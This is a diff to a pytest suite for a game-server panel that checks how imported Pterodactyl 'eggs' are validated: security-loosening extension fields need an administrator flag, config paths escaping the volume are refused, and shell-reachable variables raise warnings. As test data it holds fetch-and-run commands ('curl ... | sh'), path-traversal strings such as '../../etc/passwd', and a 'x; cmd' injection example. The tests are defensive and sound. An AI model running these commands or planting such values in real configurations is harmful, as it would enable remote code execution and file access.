@@ -9,6 +9,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from pydantic import ValidationError
 
 from control_plane.schemas.blueprints import BlueprintCreate
 from control_plane.services.eggs.exporting import export_egg
@@ -296,6 +297,8 @@ def test_export_then_import_gives_the_same_blueprint(name: str, form: str) -> No
     original = mapped(name, accept_unknown_rules=True)
     exported = export_egg(blueprint_of(original), original.egg_uuid, form)  # type: ignore[arg-type]
     assert exported["meta"]["version"] == form.upper().replace("_V", "_v")
+    # Every test egg's blueprint is said in the egg's own words: no extension needed.
+    assert EXTENSION not in exported
     (egg,) = read_eggs(json.dumps(exported).encode(), "json")
     again = map_egg(egg, accept_unknown_rules=True)
     assert again.blueprint == original.blueprint
@@ -309,7 +312,9 @@ def test_what_an_egg_cannot_say_travels_in_the_extension() -> None:
     exported = export_egg(blueprint, None, "ptdl_v2")
     assert exported[EXTENSION] == {"read_only_root": False}
     (egg,) = read_eggs(json.dumps(exported).encode(), "json")
-    assert map_egg(egg).blueprint == blueprint
+    # A writable root loosens what the egg says: only with the administrator's flag.
+    assert map_egg(egg).report.refusals[0].field == f"{EXTENSION}.read_only_root"
+    assert map_egg(egg, accept_extension=True).blueprint == blueprint
     pterodactyl = json.loads(exported["config"]["files"])
     assert pterodactyl["openttd.cfg"]["find"]["network.server_port"] == (
         "{{server.build.default.port}}"
@@ -363,3 +368,158 @@ def test_the_newer_rules_export_in_laravels_words(form: str) -> None:
         "required|string|min:1|max:6|alpha_num",
         "nullable|string|ipv4",
     ]
+
+
+@pytest.mark.parametrize(
+    ("key", "value"),
+    [
+        ("read_only_root", False),
+        ("image_command", True),
+        ("startup", "curl -s https://example.invalid/x | sh"),
+        (
+            "install",
+            {"image": "alpine:3.20", "entrypoint": "/bin/sh", "script": "curl x | sh"},
+        ),
+        ("file_denylist", []),
+        (
+            "config_files",
+            [{"path": "a.txt", "parser": "file", "replace": [{"match": "a", "value": "b"}]}],
+        ),
+        ("variables", []),
+    ],
+)
+def test_an_extension_that_loosens_the_egg_is_refused_without_the_flag(
+    key: str, value: Any
+) -> None:
+    egg = load("ptdl-v2-minecraft-paper.json")
+    egg["file_denylist"] = ["*.jar"]
+    egg[EXTENSION] = {key: value}
+    refused = map_egg(egg, accept_unknown_rules=True)
+    assert refused.blueprint is None
+    (why,) = item(refused, f"{EXTENSION}.{key}", "refused")
+    assert "accept_extension=true" in why
+    assert json.dumps(value)[:40] in why
+
+
+def test_an_accepted_extension_is_reported_as_changed_and_the_stale_items_go() -> None:
+    egg = load("ptdl-v2-minecraft-paper.json")
+    plain = map_egg(egg, accept_unknown_rules=True)
+    assert item(plain, "scripts.installation", "changed")
+    install = {"image": "alpine:3.20", "entrypoint": "/bin/sh", "script": "curl x | sh"}
+    startup = "java -jar other.jar"
+    egg[EXTENSION] = {"install": install, "startup": startup, "read_only_root": False}
+    result = map_egg(egg, accept_unknown_rules=True, accept_extension=True)
+    blueprint = blueprint_of(result)
+    assert blueprint.startup == startup
+    assert blueprint.install is not None
+    assert blueprint.install.script == "curl x | sh"
+    assert not blueprint.read_only_root
+    # What described the egg's own installer and startup is gone; each override says its value.
+    fields = {i.field for i in result.report.items}
+    assert not {f for f in fields if f.startswith(("scripts.installation", "startup"))}
+    (said,) = item(result, f"{EXTENSION}.install", "changed")
+    assert '"curl x | sh"' in said
+    assert item(result, f"{EXTENSION}.startup", "changed") == [
+        f"StellarStack's own value, set over the egg's: {json.dumps(startup)}"
+    ]
+    assert item(result, f"{EXTENSION}.read_only_root", "changed")
+    assert not [i for i in result.report.items if i.outcome == "mapped" and EXTENSION in i.field]
+
+
+def test_an_extension_that_tightens_or_only_renames_needs_no_flag() -> None:
+    egg = load("ptdl-v2-minecraft-paper.json")
+    egg["file_denylist"] = ["*.jar"]
+    egg[EXTENSION] = {
+        "read_only_root": True,
+        "image_command": False,
+        "file_denylist": ["*.jar", "secrets/"],
+        "description": "ours",
+    }
+    result = map_egg(egg, accept_unknown_rules=True)
+    blueprint = blueprint_of(result)
+    assert blueprint.file_denylist == ["*.jar", "secrets/"]
+    assert blueprint.description == "ours"
+    assert item(result, f"{EXTENSION}.description", "changed") == [
+        "StellarStack's own value, set over the egg's: \"ours\""
+    ]
+    assert not item(result, "file_denylist", "mapped")
+
+
+def test_a_stop_timeout_is_30_from_an_egg_and_travels_in_the_extension() -> None:
+    imported = blueprint_of(mapped("ptdl-v2-openttd.json"))
+    assert imported.stop_timeout_seconds == 30
+    patient = imported.model_copy(update={"stop_timeout_seconds": 120})
+    exported = export_egg(patient, None, "plcn_v3")
+    assert exported[EXTENSION] == {"stop_timeout_seconds": 120}
+    (egg,) = read_eggs(json.dumps(exported).encode(), "json")
+    # Waiting longer for a game to save loosens nothing: no flag needed.
+    result = map_egg(egg)
+    assert result.blueprint == patient
+    assert item(result, f"{EXTENSION}.stop_timeout_seconds", "changed") == [
+        "StellarStack's own value, set over the egg's: 120"
+    ]
+
+
+@pytest.mark.parametrize(
+    ("path", "why"),
+    [
+        ("../../etc/passwd", "'..' is not a valid file name"),
+        ("config/../../outside.cfg", "'..' is not a valid file name"),
+        ("/", "the path names the volume root, not a file"),
+    ],
+)
+def test_a_config_file_outside_the_volume_is_refused_at_import(path: str, why: str) -> None:
+    egg = load("ptdl-v2-minecraft-paper.json")
+    egg["config"]["files"] = json.dumps({path: {"parser": "file", "find": {"a": "b"}}})
+    result = map_egg(egg)
+    assert result.blueprint is None
+    assert item(result, f"config.files.{path}", "refused") == [
+        f"not a path inside the server's files: {why}"
+    ]
+
+
+def test_an_absolute_config_file_path_is_read_inside_the_volume() -> None:
+    egg = load("ptdl-v2-minecraft-paper.json")
+    files = json.loads(egg["config"]["files"])
+    egg["config"]["files"] = json.dumps({"/server.properties": files["server.properties"]})
+    result = map_egg(egg)
+    (config,) = blueprint_of(result).config_files
+    assert config.path == "/server.properties"
+    assert "an absolute path is read inside the server's files" in item(
+        result, "config.files./server.properties", "changed"
+    )
+
+
+def test_a_blueprint_with_a_config_file_outside_the_volume_is_refused() -> None:
+    blueprint = blueprint_of(mapped("ptdl-v2-minecraft-paper.json")).model_dump(mode="json")
+    blueprint["config_files"][0]["path"] = "../server.properties"
+    with pytest.raises(ValidationError) as caught:
+        BlueprintCreate.model_validate(blueprint)
+    (error,) = caught.value.errors()
+    assert error["loc"] == ("config_files",)
+    assert error["msg"] == (
+        "Value error, config file 0 ('../server.properties'): '..' is not a valid file name"
+    )
+
+
+def test_an_image_command_egg_warns_of_each_value_users_may_edit() -> None:
+    result = mapped("ptdl-v2-7-days-to-die.json")
+    blueprint = blueprint_of(result)
+    assert blueprint.image_command
+    editable = {v.env: v for v in blueprint.variables if v.user_editable}
+    warned = {i.field for i in result.report.items if i.outcome == "warning"}
+    assert warned == {
+        "variables.SRCDS_BETAID",
+        "variables.PASSWORD",
+        "variables.TELNET_PORT",
+        "variables.SERVER_DISABLED_NETWORK_PROTOCOLS",
+    }
+    # Numbers, booleans and plain options cannot carry shell syntax: no warning.
+    assert editable["GAME_DIFFICULTY"].type == "integer"
+    assert editable["AUTO_UPDATE"].type == "boolean"
+    (said,) = item(result, "variables.PASSWORD", "warning")
+    assert "evaluates it twice" in said
+    assert "'x; cmd'" in said
+    # A blueprint split into arguments never gives a value to a shell: no warning.
+    paper = mapped("ptdl-v2-minecraft-paper.json")
+    assert not [i for i in paper.report.items if i.outcome == "warning"]
